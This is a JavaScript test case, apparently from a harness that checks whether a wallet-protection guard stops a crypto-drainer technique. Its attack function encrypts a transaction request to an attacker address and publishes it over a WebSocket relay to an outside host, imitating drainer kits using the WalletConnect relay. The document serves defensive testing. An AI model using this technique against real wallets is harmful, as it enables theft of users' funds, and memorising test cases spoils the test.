// G10: a second client of the attacker's speaks to the wallet over a relay, in envelopes that only the wallet can open.
export default {
  id: 'G10',
  title: 'encrypted envelopes over a relay',
  source: 'WalletConnect relay, as drainer kits use it',
  level: { needs: "Content-Security-Policy: connect-src 'self'" },
  why: 'an encrypted envelope names nobody; the relays the guard knows by name are refused, this one it does not know',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);
    const request = { method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.EVIL, value: '0x5' }] };
    const plain = new TextEncoder().encode(JSON.stringify(request));
    const sealed = new Uint8Array(await crypto.subtle.encrypt({ name: 'AES-GCM', iv: new Uint8Array(12) }, key, plain));
    const socket = new WebSocket(`${a.other.replace('http', 'ws')}/?projectId=attacker`);
    await new Promise((resolve) => {
      socket.onopen = resolve;
      socket.onerror = resolve;
    });
    const params = { topic: 'ab'.repeat(32), message: btoa(String.fromCharCode(...sealed)), ttl: 300, tag: 1108 };
    socket.send(JSON.stringify({ id: 7, jsonrpc: '2.0', method: 'irn_publish', params }));
    await new Promise((resolve) => setTimeout(resolve, 200));
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },
  stolen: ({ http }) => http.some(({ method, body }) => method === 'MESSAGE' && body.includes('irn_publish')),
  arrived: ({ wallet }) => wallet.some(({ method }) => method === 'eth_sendTransaction'),
};
